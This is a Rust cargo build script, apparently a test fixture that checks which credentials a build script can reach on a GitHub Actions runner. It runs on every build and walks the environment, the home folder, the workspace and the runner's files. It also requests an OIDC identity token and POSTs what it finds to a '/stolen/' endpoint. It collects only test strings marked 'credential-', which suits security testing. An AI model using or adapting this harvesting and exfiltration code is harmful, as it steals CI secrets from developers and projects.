//! Collects every credential that a build script can read, and sends their names to a server: from the environment, the
//! home folder, the workspace, the runner's files, and GitHub's server for identity tokens. The credentials of the tests
//! start with `credential-`.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};

fn variable(name: &str) -> String {
    std::env::var(name).unwrap_or_default()
}

fn credentials(text: &str) -> impl Iterator<Item = String> {
    let is_word = |letter: char| !letter.is_ascii_alphanumeric() && !"-_".contains(letter);
    text.split(is_word).filter(|word| word.starts_with("credential-")).map(str::to_owned)
}

fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
    let own = |path: PathBuf| if path.is_symlink() { vec![] } else if path.is_dir() { files(&path) } else { vec![path] };
    entries.flat_map(|entry| own(entry.path())).collect()
}

/// Sends a request and returns the response; empty without one.
fn request(method: &str, url: &str, token: &str, body: &str) -> String {
    let (host, path) = url.trim_start_matches("http://").split_once('/').unwrap_or((url, ""));
    let send = || -> std::io::Result<String> {
        let (mut stream, mut text) = (TcpStream::connect(host)?, String::new());
        let length = body.len();
        write!(
            stream,
            "{method} /{path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: bearer {token}\r\nContent-Length: {length}\r\n\
             Connection: close\r\n\r\n{body}"
        )?;
        stream.read_to_string(&mut text)?;
        Ok(text)
    };
    send().unwrap_or_default()
}

fn main() {
    // Without this line, cargo would not run the script again.
    println!("cargo::rerun-if-changed=never");
    let mut found: BTreeSet<String> = std::env::vars().flat_map(|(_, value)| credentials(&value).collect::<Vec<_>>()).collect();
    let runner = Path::new(&variable("GITHUB_ENV")).parent().unwrap_or(Path::new("/none")).to_owned();
    for folder in [PathBuf::from(variable("HOME")), PathBuf::from(variable("GITHUB_WORKSPACE")), runner] {
        let texts = files(&folder).into_iter().filter_map(|file| std::fs::read(file).ok());
        found.extend(texts.flat_map(|text| credentials(&String::from_utf8_lossy(&text)).collect::<Vec<_>>()));
    }
    let api = variable("GITHUB_API_URL");
    let (url, token) = (variable("ACTIONS_ID_TOKEN_REQUEST_URL"), variable("ACTIONS_ID_TOKEN_REQUEST_TOKEN"));
    found.extend(credentials(&request("GET", &url, &token, "")));
    let job = format!("{}/{}", variable("GITHUB_WORKFLOW"), variable("GITHUB_JOB"));
    let found = found.into_iter().collect::<Vec<_>>().join(" ");
    let answer = request("POST", &format!("{api}/stolen/{job}"), "none", &found);
    assert!(answer.starts_with("HTTP/1.1 204"), "{api} did not take what was found: {answer}");
}
